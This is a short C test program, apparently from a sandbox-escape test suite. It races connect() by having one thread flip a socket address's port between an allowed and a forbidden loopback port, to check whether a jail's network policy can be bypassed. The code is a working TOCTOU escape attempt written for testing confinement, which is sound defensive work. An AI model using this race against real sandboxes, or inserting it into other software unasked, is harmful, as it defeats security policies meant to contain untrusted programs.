/* e0103-toctou-connect-inet - argument TOCTOU on connect(): a thread flips
 * the port of a sockaddr_in between an allowed and a forbidden port.
 *
 * Attack: under a policy that allows connect to 127.0.0.1 on one port
 * only, one thread flips sin_port between that port and a forbidden one
 * (a listener outside the jail that counts connections) while another
 * thread connects to whatever the sockaddr names.
 * Source: Watson 2007 (sockaddr races on connect in system call wrappers).
 * Usage: e0103-toctou-connect-inet ALLOWED-PORT FORBIDDEN-PORT */
#include <pthread.h>
#include <arpa/inet.h>

#include "escape.h"

static struct sockaddr_in sa;
static unsigned short allowed, forbidden;
static volatile int stop;

static void *flipper(void *arg)
{
	(void)arg;
	volatile unsigned short *port = &sa.sin_port;
	while (!stop) {
		*port = forbidden;
		*port = allowed;
	}
	return NULL;
}

static bool is_forbidden_port(const struct sockaddr_storage *peer, const void *port)
{
	return ((const struct sockaddr_in *)peer)->sin_port == *(const unsigned short *)port;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0103-toctou-connect-inet ALLOWED-PORT FORBIDDEN-PORT");
	allowed = htons((unsigned short)esc_number(argv[1]));
	forbidden = htons((unsigned short)esc_number(argv[2]));
	esc_inet_loopback(&sa, (unsigned)esc_number(argv[1]));
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		esc_die("pthread_create");
	esc_race_connect((struct sockaddr *)&sa, sizeof sa, SOCK_STREAM | SOCK_CLOEXEC,
			 is_forbidden_port, &forbidden, "port");
	stop = 1;
	pthread_join(t, NULL);
	return 0;
}
